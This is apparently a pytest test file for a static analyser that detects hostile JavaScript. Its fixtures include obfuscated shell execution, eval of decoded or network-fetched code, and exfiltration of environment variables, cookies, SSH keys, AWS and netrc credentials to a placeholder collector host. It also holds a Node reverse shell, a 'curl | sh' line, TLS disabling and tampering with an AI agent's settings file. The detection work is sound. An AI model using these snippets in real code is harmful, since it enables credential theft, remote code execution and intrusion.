"""What JavaScript is seen to do, however it is written."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.rows import each_row

from prowess.reading.views import View
from prowess.safety.facts import Act, Reading
from prowess.safety.languages.javascript.facts import read_javascript

HOST = "https://collector.example.invalid"


def read(code: str) -> Reading:
    return read_javascript(View.raw("scripts/a.js", code))


def facts(code: str) -> set[tuple[Act, str, str, frozenset[str]]]:
    return {(fact.act, fact.subject, fact.target, fact.flow) for fact in read(code).facts}


def acts(code: str) -> set[tuple[Act, str]]:
    return {(fact.act, fact.subject) for fact in read(code).facts}


def flows(code: str, act: Act) -> set[str]:
    return {label for fact in read(code).facts if fact.act is act for label in fact.flow}


@each_row(
    "code",
    [
        "require('child_process').exec('id')",
        "const cp = require('child' + '_process'); cp['ex' + 'ec']('id')",
        "const {execSync: run} = require('node:child_process'); run(`id`)",
        "import {exec as go} from 'child_process'; go('id')",
        "import * as cp from 'node:child_process'; cp.execSync('id')",
        "const run = require('util').promisify(require('child_process').exec); run('id')",
        "globalThis.process.mainModule.require('child_process').execSync('id')",
        "const {exec} = await import('child_process'); exec('\\x69\\x64')",
        "require('child_process').spawn('sh', ['-c', 'id'])",
        "require('child_process').exec.call(null, 'id')",
        "const c = require('child_process'); Reflect.apply(c.exec, c, ['id'])",
        "const $ = require('zx').$; $`id`",
        "const f = c => require('child_process').execSync(c); f('id')",
        "require('child_process')[['e', 'x', 'e', 'c'].join('')](atob('aWQ='))",
        "require('child_process').exec(Buffer.from('6964', 'hex').toString())",
        "require('child_process').exec('di'.split('').reverse().join(''))",
        "require('child_process').exec(unescape('%69%64'))",
    ],
)
def test_a_command_is_a_shell_snippet_however_it_is_spelled(code: str) -> None:
    reading = read(code)
    assert (Act.EXEC, "shell") in {(fact.act, fact.subject) for fact in reading.facts}
    assert [(part.language, part.view.text) for part in reading.snippets] == [("shell", "id")]


@each_row(
    "code",
    [
        "eval(atob('YWxlcnQoMSk='))",
        "(0, eval)(atob('YWxlcnQoMSk='))",
        "globalThis['ev' + 'al'](atob('YWxlcnQoMSk='))",
        "new Function(atob('YWxlcnQoMSk='))()",
        "[]['constructor']['constructor'](atob('YWxlcnQoMSk='))()",
        "setTimeout(atob('YWxlcnQoMSk='), 10)",
        "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
        "eval([97,108,101,114,116,40,49,41].map(c => String.fromCharCode(c)).join(''))",
        "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString('utf8'))",
        (
            "eval(require('zlib').inflateSync(Buffer.from("
            "'789c4bcc492d2ad130d404000d6f029b', 'hex')).toString())"
        ),
    ],
)
def test_decoded_text_that_is_evaluated_is_code_with_that_origin(code: str) -> None:
    reading = read(code)
    assert "decoded" in flows(code, Act.EXEC)
    assert ("javascript", "alert(1)") in {(s.language, s.view.text) for s in reading.snippets}


@each_row(
    "code",
    [
        "let m; while ((m = /a(b)/g.exec(s)) !== null) {}",
        "const re = new RegExp('a'); re.exec(text)",
        "db.exec('DROP TABLE x'); cursor.exec(q)",
        "await page.evaluate(() => 1); page.$eval('a', e => e.href)",
        "redis.eval(script, 1, key)",
        "class M { eval() {} run() { this.eval(); } }",
        "setTimeout(() => go(), 10); setTimeout(go, 10)",
        "function exec(x) { return x; } exec('rm -rf /')",
        "model.eval(); torch.exec('x')",
    ],
)
def test_look_alikes_of_eval_and_exec_are_not_facts(code: str) -> None:
    assert Act.EXEC not in {act for act, _subject in acts(code)}


@each_row(
    "code",
    [
        f"require('https').get('{HOST}/p', r => r.on('data', d => eval(String(d))))",
        f"fetch('{HOST}/p').then(r => r.text()).then(t => eval(t))",
        f"(async () => {{ const r = await fetch('{HOST}/p'); eval(await r.text()); }})()",
        f"const axios = require('axios'); axios.get('{HOST}').then(({{data}}) => eval(data))",
        f"const w = new WebSocket('{HOST}'); w.onmessage = ({{data}}) => eval(data)",
        (
            f"let b = ''; require('http').get('{HOST}', r => {{ r.on('data', c => {{ b += c; }});"
            " r.on('end', () => new Function(b)()); });"
        ),
        (
            f"async function get() {{ return (await fetch('{HOST}')).text(); }}"
            " async function main() { eval(await get()); } main();"
        ),
    ],
)
def test_text_from_the_network_that_is_run_is_a_flow(code: str) -> None:
    assert flows(code, Act.EXEC) == {"remote"}
    assert Act.FETCH in {act for act, _subject in acts(code)}


@each_row(
    ("code", "label"),
    [
        (f"fetch('{HOST}', {{method: 'POST', body: JSON.stringify(process.env)}})", "env"),
        (f"fetch('{HOST}', {{method: 'POST', body: JSON.stringify(process['env'])}})", "env"),
        (f"const e = {{...process.env}}; require('axios').post('{HOST}', e)", "env"),
        (
            (
                "const out = {}; for (const [k, v] of Object.entries(process.env)) out[k] = v;"
                f" fetch('{HOST}', {{method: 'POST', body: JSON.stringify(out)}})"
            ),
            "env",
        ),
        (f"navigator.sendBeacon('{HOST}', document.cookie)", "browser"),
        (f"new Image().src = '{HOST}/?c=' + document.cookie", "browser"),
        (
            (
                "const fs = require('fs'), os = require('os'), path = require('path');"
                "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));"
                f"const r = require('https').request('{HOST}', {{method: 'POST'}}); r.write(key);"
            ),
            "credential:~/.ssh/id_rsa",
        ),
        (
            (
                "import {readFile} from 'fs/promises';"
                "async function main() {"
                " ship(await readFile(process.env.HOME + '/.aws/credentials')); }"
                f"function ship(d) {{ fetch('{HOST}', {{method: 'POST', body: d}}); }} main();"
            ),
            "credential:~/.aws/credentials",
        ),
        (
            (
                "const {API_TOKEN} = process.env;"
                f"require('dns').lookup(`${{API_TOKEN}}.example.invalid`, () => {{}}); // {HOST}"
            ),
            "env:API_TOKEN",
        ),
        (
            (
                "const s = require('net').connect(4444, '203.0.113.7');"
                "s.write(require('os').hostname())"
            ),
            "host",
        ),
        (
            (
                "require('nodemailer').createTransport({}).sendMail({to: 'a@b.example.invalid',"
                " text: require('child_process').execSync('cat ~/.netrc').toString()})"
            ),
            "credential:~/.netrc",
        ),
        (
            (
                "const form = new FormData(); form.append('f', require('fs').readFileSync('.env'));"
                f"fetch('{HOST}', {{method: 'POST', body: form}})"
            ),
            "credential:.env",
        ),
    ],
)
def test_what_is_read_is_followed_to_where_it_is_sent(code: str, label: str) -> None:
    assert label in flows(code, Act.SEND)


def test_a_shell_piped_to_a_socket_is_a_reverse_shell() -> None:
    code = (
        "const net = require('net'), cp = require('child_process');"
        "const sh = cp.spawn('/bin/sh', []); const c = new net.Socket();"
        "c.connect(4444, '203.0.113.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });"
    )
    assert (Act.REVERSE_SHELL, "net") in acts(code)


@each_row(
    ("code", "expected"),
    [
        ("require('fs').rmSync('/data', {recursive: true})", (Act.DELETE, "/data")),
        ("require('rimraf').sync('/data')", (Act.DELETE, "/data")),
        ("require('fs').chmodSync('x', 0o4755)", (Act.PERMISSION, "4755")),
        ("process.env.NODE_OPTIONS = '--require ./x.js'", (Act.SETENV, "NODE_OPTIONS")),
        ("process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", (Act.DISABLE, "tls")),
        ("new https.Agent({rejectUnauthorized: false})", (Act.DISABLE, "tls")),
        ("spawn('x', [], {env: {...process.env, LD_PRELOAD: 'a.so'}})", (Act.SETENV, "LD_PRELOAD")),
        ("require('node-serialize').unserialize(x)", (Act.DESERIALISE, "node-serialize")),
        ("pool.connect('stratum+tcp://p.example.invalid:3333')",
         (Act.MINE, "stratum+tcp://p.example.invalid:3333")),
        ("fs.appendFileSync(os.homedir() + '/.bashrc', 'alias a=b')", (Act.PERSIST, "rc-file")),
        ("fs.writeFileSync(`${os.homedir()}/.claude/settings.json`, x)",
         (Act.TAMPER, "~/.claude/settings.json")),
        ("require(name)", (Act.IMPORT, "")),
        ("process.setuid(0)", (Act.PRIVILEGE, "setuid")),
        ("import('https://cdn.example.invalid/x.js')",
         (Act.FETCH, "https://cdn.example.invalid/x.js")),
        ("require('vm').runInNewContext(code)", (Act.EXEC, "vm")),
    ],
)  # fmt: skip
def test_effects_on_the_machine_are_facts(code: str, expected: tuple[Act, str]) -> None:
    assert expected in acts(code)


def test_plain_code_has_no_facts() -> None:
    code = (
        "import {sum} from './lib/sum'; export const total = xs => xs.reduce((a, b) => a + b, 0);"
        "console.log(total([1, 2]), process.env.NODE_ENV, process.env.HOME);"
    )
    reading = read(code)
    assert reading.facts == ()
    assert reading.imports == ("./lib/sum",)


def test_a_snippet_points_at_the_characters_of_the_file() -> None:
    code = "// first\nconst a = 'curl -s https://x.example.invalid | sh';\nexecSync(a);\n"
    (snippet,) = read(code).snippets
    assert snippet.view.origin(0) == code.index("curl")
    assert snippet.view.origin(5) == code.index("-s")


def test_positions_hold_behind_characters_of_several_bytes() -> None:
    code = "// größe 漢字 😀 zero\u200bwidth\nconst ü = 1; eval('alert(1)')"
    (fact,) = read(code).facts
    assert fact.spot.text == "eval('alert(1)')"


def test_comments_and_long_texts_are_prose() -> None:
    prompt = "a text of a prompt that is long enough to be read"
    code = f"// one line of a remark\n// and its second line\nconst p = '{prompt}';"
    texts = [text.text for text in read(code).texts]
    assert any("remark" in text and "second" in text for text in texts)
    assert prompt in texts


def test_typescript_is_read_around_its_types() -> None:
    code = (
        "import { execSync } from 'child_process';\ninterface A { b: string }\n"
        "export async function run(cmd: string, n?: number): Promise<void> { execSync('id'); }\n"
    )
    assert [part.view.text for part in read(code).snippets] == ["id"]


def test_accessors_whose_types_are_unions_are_no_nesting() -> None:
    pair = (
        "  get {0}(): {1} {{ return this.o.{0}; }}\n  set {0}(to: {1}) {{ this.o.{0} = to; }}\n\n"
    )
    kinds = ("(string & {}) | Model", "'auto' | \"none\" | null", "\n    | A[]\n    | null")
    plain = [pair.format(f"f{at}", "number | null") for at in range(60)]
    texts = ["".join((pair.format("first", kind), *plain)) for kind in kinds]
    codes = [f"export class Agent extends Base {{\n{text}}}\n" for text in texts]

    assert [read(code).unread for code in codes] == ["", "", ""]


def test_what_reaches_the_text_from_outside_flows_on() -> None:
    view = View.raw("a.js", "eval(require('fs').readFileSync(0, 'utf8'))")
    (fact,) = [f for f in read_javascript(view, frozenset(("remote",))).facts if f.act is Act.EXEC]
    assert fact.flow == {"input", "remote"}


@each_row(
    "text", ["(" * 50_000, "`${" * 20_000, "()=>{" * 20_000, "'" * 30_000, "x=" + "'a'+" * 20_000]
)
def test_hostile_nesting_comes_to_an_end(text: str) -> None:
    assert isinstance(read(text), Reading)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_any_text_can_be_read(text: str) -> None:
    reading = read("const a = require('fs');" + text)
    for fact in reading.facts:
        assert 0 <= fact.spot.start <= fact.spot.end <= len(fact.spot.view.text)


@pytest.mark.parametrize(
    "table",
    [
        "{" + "a:1,b:[2]," * 3_000 + "}",
        "[" + "104," * 6_000 + "]",
        "[" + "'a'," * 6_000 + "]",
        "'" + "\\x61" * 6_000 + "'",
    ],
)
def test_a_large_constant_is_read_to_its_end(table: str) -> None:
    reading = read(f"const t = {table};\neval('alert(1)')")
    assert reading.unread == ""
    assert [part.view.text for part in reading.snippets] == ["alert(1)"]


def test_code_is_found_behind_a_lot_of_noise_and_the_noise_is_said_to_be_unread() -> None:
    reading = read("''" * 10_000 + "\n" * 2_000 + "eval('alert(1)')")
    assert reading.unread != ""
    assert [part.view.text for part in reading.snippets] == ["alert(1)"]
